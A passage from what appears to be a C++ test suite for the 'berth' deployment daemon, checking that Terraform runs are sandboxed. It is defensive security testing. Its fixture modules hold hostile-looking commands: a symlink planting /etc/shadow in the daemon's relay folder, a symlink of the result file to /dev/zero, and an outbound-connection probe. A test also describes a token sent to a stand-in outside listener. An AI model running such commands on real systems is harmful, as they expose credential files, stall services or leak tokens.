  path    = "written.txt"
  content = "through the relay"
}
resource "terraform_data" "probe" {
  provisioner "local-exec" {
    command = <<-EOT
      echo "interfaces: $(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' | paste -sd,)"
      relay=$(dirname $BERTH_TOKEN_FILE)/relay
      ln -sf /etc/shadow $relay/planted 2>/dev/null && echo "relay: writable" || echo "relay: read-only"
      python3 -c 'import socket
try:
    socket.create_connection(("127.0.0.1", ${var.listener}), timeout=5); print("outside: reached")
except OSError as e:
    print("outside: unreachable")'
    EOT
  }
}
output "done" { value = "yes" }
)tf";

TEST_F(BerthCli, ARunnerThatCutsTheNetworkReachesBerthdAndNothingElse) {
  // berth up's own runner, which its project `default` deploys with.
  auto cut =
      Berth({"update", "runner", "local", "--set", "runner_configuration.network=berthd_only"});
  ASSERT_EQ(cut.exit_code, 0) << cut.output;
  fs::path module = dir_->Path() / "probe";
  fs::create_directories(module);
  ASSERT_TRUE(sys::WriteFileAtomic(module / "main.tf", kNetworkProbeModule));
  fs::permissions(module / "main.tf", fs::perms::others_read, fs::perm_options::add);
  int port = 0;
  auto listener = sys::ListenLoopback(port);  // outside the run: it must not get through
  ASSERT_TRUE(listener);
  auto deployed = Berth({"deploy", module.string(), "--env", "dev", "--auto-approve", "--var",
                         "listener=" + std::to_string(port)});
  ASSERT_EQ(deployed.exit_code, 0) << deployed.output << Log();
  EXPECT_NE(deployed.output.find("done = \"yes\""), std::string::npos) << deployed.output;
  std::string id = deployed.output.substr(deployed.output.find("deployment d-") + 11, 12);
  auto logs = Berth({"logs", id});
  ASSERT_EQ(logs.exit_code, 0) << logs.output;
  EXPECT_NE(logs.output.find("(local-exec): interfaces: lo\n"), std::string::npos) << logs.output;
  EXPECT_NE(logs.output.find("(local-exec): outside: unreachable"), std::string::npos)
      << logs.output;
  // Nothing the run could put where berthd's socket goes for a root berthd to chown.
  EXPECT_NE(logs.output.find("(local-exec): relay: read-only"), std::string::npos) << logs.output;
  pollfd waiting{.fd = listener->Get(), .events = POLLIN, .revents = 0};
  EXPECT_EQ(poll(&waiting, 1, 0), 0) << "the run connected out";
  auto versions = Berth({"state", "show", "dev", "--project", "default"});
  EXPECT_EQ(versions.exit_code, 0) << versions.output;
}

// A root `berth up` given --local-runner-uid runs its runs as exactly those users (two on one
// machine, or a range the operator keeps free).
TEST_F(BerthCli, BerthUpRunsItsRunsAsTheUsersItIsGiven) {
  if (geteuid() != 0) GTEST_SKIP() << "only a root berthd drops runs to users of their own";
  StopUp();
  StartUp({"--local-runner-uid=61200"});
  fs::path module = dir_->Path() / "whoami";
  fs::create_directories(module);
  ASSERT_TRUE(sys::WriteFileAtomic(module / "main.tf", R"tf(
resource "terraform_data" "x" {
  provisioner "local-exec" {
    command = "echo ran-as-$(id -u)"
  }
}
)tf"));
  fs::permissions(module / "main.tf", fs::perms::others_read, fs::perm_options::add);
  auto deployed = Berth({"deploy", module.string(), "--env", "dev", "--auto-approve"});
  ASSERT_EQ(deployed.exit_code, 0) << deployed.output << Log();
  EXPECT_NE(deployed.output.find("(local-exec): ran-as-61200"), std::string::npos)
      << deployed.output;
}

// The run's result file is the module's to replace: a link to an endless device made berthd
// read until the kernel killed it. berthd refuses it and says so; the result the runner posted
// says how the run went (its apply did apply), and berthd serves the next deployment.
TEST_F(BerthCli, AModuleThatLinksItsResultToAnEndlessDeviceLeavesBerthdServing) {
  fs::path module = dir_->Path() / "endless";
  fs::create_directories(module);
  ASSERT_TRUE(sys::WriteFileAtomic(module / "main.tf", R"tf(
resource "terraform_data" "x" {
  provisioner "local-exec" {
    command = "ln -sf /dev/zero $(dirname $BERTH_TOKEN_FILE)/out/result.json"
  }
}
)tf"));
  fs::permissions(module / "main.tf", fs::perms::others_read, fs::perm_options::add);
  auto deployed = Berth({"deploy", module.string(), "--env", "dev", "--auto-approve"});
  EXPECT_EQ(deployed.exit_code, 0) << deployed.output << Log();
  EXPECT_NE(deployed.output.find("its result file was refused: not read: a symbolic link"),
            std::string::npos)
      << deployed.output << Log();
  ASSERT_TRUE(up_->Running());
  // In an environment of its own: the module above applied its resource in dev, which hello
  // would destroy (the guard refuses that).
  auto next = Berth({"deploy", (testenv::SourceDir() / "examples/hello").string(), "--env", "after",
                     "--auto-approve", "--var", "name=after"});
  EXPECT_EQ(next.exit_code, 0) << next.output << Log();
}

TEST_F(BerthCli, AHostileModuleFindsNothingOfBerthdInItsSandbox) {
  fs::path hostile = dir_->Path() / "hostile";
  fs::create_directories(hostile);
  ASSERT_TRUE(sys::WriteFileAtomic(hostile / "main.tf", kHostileModule));
  auto admin_token = sys::ReadFile(fs::path(data_) / "admin-token");
  ASSERT_TRUE(admin_token);
  // Where the module sends its run token, to use it once the run is over: a listener on
  // loopback, the stand-in for a host outside, which a root berthd's runs reach only when their
  // runner allows it.
  auto allowed = Berth({"update", "runner", "local", "--set-json",
                        R"({"runner_configuration":{"network_allow":["loopback"]}})"});
  ASSERT_EQ(allowed.exit_code, 0) << allowed.output;
  sys::Fd listener(socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
  sockaddr_in address{.sin_family = AF_INET, .sin_port = 0, .sin_addr = {htonl(INADDR_LOOPBACK)}};
  socklen_t length = sizeof(address);
  ASSERT_EQ(bind(listener.Get(), reinterpret_cast<sockaddr*>(&address), length), 0);
  ASSERT_EQ(listen(listener.Get(), 1), 0);
  ASSERT_EQ(getsockname(listener.Get(), reinterpret_cast<sockaddr*>(&address), &length), 0);
  // A plan run, then the apply run: the apply must not find the plan run's folder.
  auto deployed =
      Berth({"deploy", hostile.string(), "--env", "dev", "--require-approval", "--auto-approve",
             "--var", "data=" + data_, "--var", "berthd=" + std::to_string(up_->Pid()), "--var",
             "listener=" + std::to_string(ntohs(address.sin_port))});
  ASSERT_EQ(deployed.exit_code, 0) << deployed.output << Log();
  EXPECT_TRUE(up_->Running());
  std::string id = deployed.output.substr(deployed.output.find("deployment d-") + 11, 12);
  auto logs = Berth({"logs", id});
  ASSERT_EQ(logs.exit_code, 0) << logs.output;
  const std::string& seen = logs.output;
  // What the attacks printed (the log also shows the command that ran them).
  auto printed = [&](const std::string& line) {
    return seen.find("(local-exec): " + line) != std::string::npos;
  };
  EXPECT_EQ(seen.find(*admin_token), std::string::npos) << "the admin token leaked";
  EXPECT_TRUE(printed("admin-token: cat: " + data_ + "/admin-token: No such file")) << seen;
  EXPECT_TRUE(printed("database: head: cannot open")) << seen;
  // Of the runs folder, only its own run's parts are there: not the plan run before it.
  EXPECT_TRUE(printed("runs: " + id + "-apply\n")) << seen;
  EXPECT_TRUE(printed("berthd: out of reach")) << seen;
  EXPECT_TRUE(printed("ptrace: -1")) << seen;
  EXPECT_TRUE(printed("namespace: refused")) << seen;
  // A root berthd's runs are users of their own (from 60100, the first no other berthd holds);
  // any other berthd's, berthd's own user mapped.
  const std::string whoami = "(local-exec): whoami: ";  // what it printed, not its command
  const size_t said = seen.find(whoami);
  ASSERT_NE(said, std::string::npos) << seen;
  const long user = std::strtol(seen.c_str() + said + whoami.size(), nullptr, 10);
  if (geteuid() == 0) {
    EXPECT_GE(user, 60100) << seen;
    EXPECT_EQ(getpwuid(static_cast<uid_t>(user)), nullptr) << "a user the machine has: " << seen;
  } else {
    EXPECT_EQ(user, geteuid()) << seen;
  }
  // berthd was neither stopped nor slowed: it answers at once.
  EXPECT_EQ(Berth({"get", "runners"}).exit_code, 0);

  EXPECT_TRUE(printed("token: not kept")) << "berthd's data folder took a write: " << seen;
  // The token the module sent out is refused everywhere now that its run is over.
  sys::Fd connection(accept4(listener.Get(), nullptr, nullptr, SOCK_CLOEXEC));
  ASSERT_TRUE(connection);
  std::string token(4096, '\0');
  ssize_t got = recv(connection.Get(), token.data(), token.size(), MSG_WAITALL);
  ASSERT_GT(got, 0);
  token.resize(static_cast<size_t>(got));
  auto url = sys::ReadFile(fs::path(data_) / "berthd.url");
  ASSERT_TRUE(url);
  std::string base = url->substr(0, url->find('\n'));
  auto http = net::MakeCurlHttpClient();
  for (std::string method : {"GET", "LOCK", "POST", "DELETE"}) {
    auto response =
        http->Send({.method = method,
                    .url = base + "/state/v1/default/default/dev",
                    .headers = {{"Authorization", "Bearer " + token}},
                    .body = method == "GET" || method == "DELETE" ? "" : R"({"ID":"x"})"});
    ASSERT_TRUE(response);
    EXPECT_EQ(response->status, 409) << method << ": " << response->body;
    EXPECT_NE(response->body.find("has ended"), std::string::npos) << response->body;
  }
}

}  // namespace
}  // namespace berth::cli
